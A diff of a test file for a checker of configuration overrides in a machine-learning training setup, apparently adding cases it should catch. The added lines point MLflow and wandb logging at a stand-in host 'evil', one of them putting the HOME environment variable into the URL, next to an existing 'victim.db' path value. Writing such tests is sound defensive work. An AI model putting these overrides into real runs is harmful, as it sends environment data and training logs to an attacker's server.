@@ -179,7 +179,7 @@ def test_overrides_of_ordinary_runs_are_allowed(working):
     overrides += ["model.weights='../a b.pth'", "ckpt_path=/old/run/checkpoints/last.ckpt"]
     overrides += ["callbacks.early_stopping.monitor=val/loss", "label='lr 0.1, n 3'"]
     overrides += ["data.root=${oc.env:HOME}/mnist", "logger.tensorboard.name=mine"]
-    overrides += ["logger=[csv,wandb]", "logger.mlflow.tracking_uri=http://localhost:5000"]
+    overrides += ["logger=[csv,wandb]", "logger.mlflow.experiment_name=mine"]
     overrides += ["+callbacks.x={_target_: pytorch_lightning.callbacks.EarlyStopping, monitor: a}"]
     overrides += ["callbacks.checkpoint.dirpath=${run_dir}/weights", "seed=null", "test=false"]
     check_overrides(overrides, working)
@@ -216,6 +216,9 @@ def test_overrides_of_ordinary_runs_are_allowed(working):
         "logger.tensorboard.save_dir=logs",
         "logger.tensorboard.sub_dir=../..",
         "logger.mlflow.tracking_uri='sqlite:////srv/victim.db'",
+        "logger.mlflow.tracking_uri='http://evil/${oc.env:HOME}'",
+        "+logger.wandb.settings={base_url:'http://evil'}",
+        "+logger.wandb.entity=evil",
         "+logger.wandb.dir=logs",
         "trainer.default_root_dir=~/x",
         "label=../../x",
